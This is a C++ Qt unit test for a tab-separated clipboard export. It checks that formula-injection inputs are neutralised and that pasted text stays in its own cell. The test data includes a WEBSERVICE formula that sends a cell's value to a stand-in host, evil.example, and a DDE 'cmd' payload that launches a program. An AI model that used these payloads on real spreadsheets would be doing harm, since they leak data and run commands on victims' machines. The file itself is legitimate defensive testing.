// SPDX-FileCopyrightText: 2026 The Castellan authors
// SPDX-License-Identifier: Apache-2.0
#include "core/text/tab_separated.h"

#include "core/text/utf8.h"

#include <QTest>

#include <algorithm>
#include <array>
#include <random>
#include <string_view>

using namespace castellan;

namespace {

/// The cells of a line as spreadsheets read them: quoted fields as RFC 4180 has them.
std::vector<std::string> cellsOf(std::string_view line)
{
    std::vector<std::string> out;
    for (;;) {
        std::string cell;
        if (line.starts_with('"')) {
            line.remove_prefix(1);
            while (!line.empty() && (!line.starts_with('"') || line.starts_with("\"\""))) {
                cell += line.front();
                line.remove_prefix(line.front() == '"' ? 2 : 1);
            }
            line.remove_prefix(std::min<std::size_t>(1, line.size()));
        }
        const auto end = line.find('\t');
        out.push_back(cell.append(line.substr(0, end)));
        if (end == std::string_view::npos)
            return out;
        line.remove_prefix(end + 1);
    }
}

}  // namespace

/// Texts of strangers on the clipboard: what is pasted stays text, in its cell and in its line.
class TestTabSeparated : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void keepsEachCellInItsPlace_data()
    {
        QTest::addColumn<QByteArray>("cell");
        QTest::addColumn<QByteArray>("copied");
        const auto row = [](const char *name, const char *cell, const char *copied) {
            QTest::newRow(name) << QByteArray(cell) << QByteArray(copied);
        };
        row("plain", "Ann Weber", "Ann Weber");
        row("empty", "", "");
        row("formula", "=WEBSERVICE(\"http://evil.example/\"&A1)", "'=WEBSERVICE(\"http://evil.example/\"&A1)");
        row("command", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0");
        row("minus", "-2+3", "'-2+3");
        row("at", "@SUM(1)", "'@SUM(1)");
        row("full width", "＝1+1", "'＝1+1");
        row("after a space", " =1+1", "' =1+1");
        row("after a tab", "\t=1+1", "' =1+1");
        row("after a line feed", "\n=1+1", "' =1+1");
        row("number", "-12.5", "-12.5");
        row("signed number", "+3", "+3");
        row("dash", "—", "—");
        row("quoted field", "\"a", "\"\"\"a\"");
        row("quotation marks inside", "renamed \"a\"", "renamed \"a\"");
        row("tab", "a\tb", "a b");
        row("line feed", "a\nb", "a b");
        row("next line", "a\u0085b", "a b");
        row("line separator", "a\u2028b", "a b");
        row("paragraph separator", "a\u2029b", "a b");
        row("other scripts", "Jürgen נועה 日本", "Jürgen נועה 日本");
    }
    void keepsEachCellInItsPlace()
    {
        QFETCH(QByteArray, cell);
        QFETCH(QByteArray, copied);
        const auto all = tabSeparated({{"before", cell.toStdString(), "after"}, {"next"}});
        QCOMPARE(QByteArray::fromStdString(all), "before\t" + copied + "\tafter\nnext\n");
    }

    void anyTextStaysInItsCell()
    {
        std::mt19937 random{1};  // NOLINT(cert-msc51-cpp): every run tries the same
        constexpr std::array<char32_t, 16> usual{U'"',  U'=',   U'+',   U'-',   U'@',   U'\t',  U'\n', U'\r',
                                                 U'\'', 0x2028, 0x2029, 0x0085, 0x3164, 0xff1d, U' ',  U'a'};
        for (int i = 0; i < 50'000; ++i) {
            std::string text;
            for (auto n = random() % 7; n > 0; --n)
                appendUtf8(text, random() % 4 == 0 ? char32_t(random() % 0xd800) : usual.at(random() % usual.size()));
            const auto copied = tabSeparated({{"x", text, "y"}, {"z"}});
            const auto shown = QByteArray::fromStdString(copied);
            QVERIFY2(isUtf8(copied) && shown.count('\n') == 2 && shown.endsWith("\nz\n"), shown.constData());
            const auto cells = cellsOf(std::string_view(copied).substr(0, copied.find('\n')));
            QVERIFY2(cells.size() == 3 && cells[0] == "x" && cells[2] == "y", shown.constData());
            const auto first = QString::fromStdString(cells[1]).trimmed();
            bool isNumber = false;
            (void)first.toDouble(&isNumber);
            QVERIFY2(first.isEmpty() || isNumber || !QStringLiteral("=+-@＝＋－＠").contains(first.front()),
                     shown.constData());
        }
    }
};

QTEST_APPLESS_MAIN(TestTabSeparated)
#include "test_tab_separated.moc"
